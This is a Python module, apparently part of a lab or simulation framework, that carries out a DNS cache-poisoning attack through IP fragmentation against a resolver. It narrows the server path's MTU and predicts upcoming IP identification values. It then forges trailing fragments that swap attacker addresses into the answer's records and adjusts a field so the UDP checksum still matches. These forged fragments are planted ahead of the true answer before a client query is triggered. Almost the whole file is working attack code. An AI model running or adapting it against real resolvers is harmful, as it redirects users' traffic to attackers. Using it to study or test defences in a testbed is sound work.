"""What attackers do with fragments: the end of an answer is theirs, and waits at the resolver for the true beginning.

    resolver                                            server
      |  <- planted: end of the answer, ID n+1, n+2 ... |     the attacker's
      |  -- query ------------------------------------> |
      |  <- beginning, ID n+1 ------------------------- |     the true one: joined with the planted end
      |  <- end, ID n+1 ------------------------------- |     the true one: waits in vain
"""

import socket
import struct
from contextlib import contextmanager

from .. import packets
from ..net import ipv4
from ..zones import Zone
from . import fingerprint, guessing, wire
from .attacker import question_to
from .world import WORDS

SERVER, RESOLVER = "nsd", "fixed"
ADDRESSES = 48
"""Of each host of a zone: an answer of some 800 octets, of which the last quarter is in the second fragment."""
WIDE = 65535
"""The longest packet of a path that makes no fragments; the MTUs of one that does."""
MTUS = (576, 600, 640)
WAIT_SECONDS = 4
"""How long the resolver's host waits for the rest of a datagram; Linux waits 30 s, and then one scenario's planted
fragments would wait for the next one's answers."""
MOST_PLANTED = 56
"""Linux gives up a datagram when more than 64 fragments of others came between (`ipfrag_max_dist`)."""
ADDRESS = wire.ASKED + struct.pack(">HH", packets.TYPE_A, 1)
"""How an address record of the name in the question begins; TTL, length and address follow."""


def zone(name, signer=None):
    """A zone whose hosts have many addresses."""
    return Zone(name, SERVER, signer, records="".join(
        f"{word} A 198.51.{100 + number}.{host}\n" for number, word in enumerate(WORDS) for host in range(ADDRESSES)))


def prepare(act):
    """The resolver's host does not wait for long."""
    act.network.run(RESOLVER, "sysctl", "-q", "-w", f"net.ipv4.ipfrag_time={WAIT_SECONDS}")


class Planter:
    """An attacker of one name."""

    def __init__(self, act, name, mtu):
        self.act, self.name = act, name
        self.begin = (mtu - 20) & ~7
        """Octets of the datagram in its first fragment."""

    def learn(self, other):
        """A client asks about another name, which shows how the resolver asks. Then the attacker asks the server as the
        resolver would, for the answer that it will change."""
        self.act.ask(RESOLVER, other)
        self.query = self.act.sniff(question_to(SERVER, other, "A"))
        with self.act.network.entered("attacker"):
            sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        payload = packets.parse(self.query).payload
        end = packets.question_end(payload)
        with sock:
            sock.settimeout(guessing.ANSWER_SECONDS)
            head = self.act.rng.randbytes(2) + payload[2:12]
            sock.sendto(head + wire.name(self.name) + payload[end - 4:], (ipv4(SERVER), 53))
            self.truth = bytes(8) + sock.recv(guessing.LONGEST_MESSAGE)

    def last_id(self, other):
        """A client asks about one more name: the answer shows at which IDs the server is with this resolver."""
        self.act.attacker.listen()
        guessing.received(guessing.flock(self.act, RESOLVER, other, ["client"]))
        return int.from_bytes(self.act.hear_answer(SERVER, other, "A")[18:20], "big")

    def forged(self, begin):
        """The end of the true datagram from an offset on, with the attacker's address in it and the sum that it had."""
        forged = bytearray(self.truth)
        at = [offset + 12 for offset in records(self.truth) if offset + 12 >= begin]
        for offset in at[:-1]:
            forged[offset:offset + 4] = wire.rdata("A", self.act.evil())
        filler = at[-1] + at[-1] % 2  # the aligned half of the last address
        forged[filler:filler + 2] = b"\0\0"
        missing = (packets.checksum(bytes(forged)) - packets.checksum(self.truth)) % 0xFFFF
        forged[filler:filler + 2] = struct.pack(">H", missing)
        return bytes(forged[begin:])

    def plant(self, last, count, begin):
        """The forged end for each of the next IDs."""
        data = self.forged(begin)
        ids = [(last + step) % guessing.EVERY_ID for step in range(1, count + 1)]
        if self.act.rng.random() < 0.5:
            self.act.rng.shuffle(ids)
        marks = self.act.marks(self.query)
        query = packets.parse(self.query)
        for marks.identification in ids:
            header = fingerprint.ip_header(query.target, query.source, len(data), marks, fragment=begin >> 3)
            self.act.send(query.source_mac + marks.mac + header + data)

    def trigger(self):
        """A client asks at once, and waits for its answer."""
        self.act.attacker.listen()
        sockets = guessing.flock(self.act, RESOLVER, self.name, ["client"])
        self.act.labels.target(self.act.hear_query(SERVER, self.name, "A")[26:30], self.name)
        guessing.received(sockets)


def records(octets):
    """Where the address records of the name in the question begin."""
    offset = octets.find(ADDRESS)
    while offset >= 0:
        yield offset
        offset = octets.find(ADDRESS, offset + 16)


@contextmanager
def narrow(act):
    """In the block, long answers of the server come in fragments; gives the path's MTU."""
    mtu = act.rng.choice(MTUS)
    act.network.order(SERVER, "mtu", mtu)
    try:
        yield mtu
    finally:
        act.network.order(SERVER, "mtu", WIDE)


def attack(act, zone_name, shift=0):
    """Ordinary answers in fragments, then the planted ones; they begin `shift` octets before the true second fragment.
    Returns the name."""
    with narrow(act) as mtu:
        act.warm(*act.pick("unsigned.test.", 4), *act.pick(zone_name, 4), resolver=RESOLVER, kinds=("A",))
        name, shown, other = act.pick(zone_name, 3)
        planter = Planter(act, name, mtu)
        planter.learn(shown)
        guessing.forged_data(act)
        planter.plant(planter.last_id(other), act.rng.randint(24, MOST_PLANTED), planter.begin - shift)
        planter.trigger()
    return name
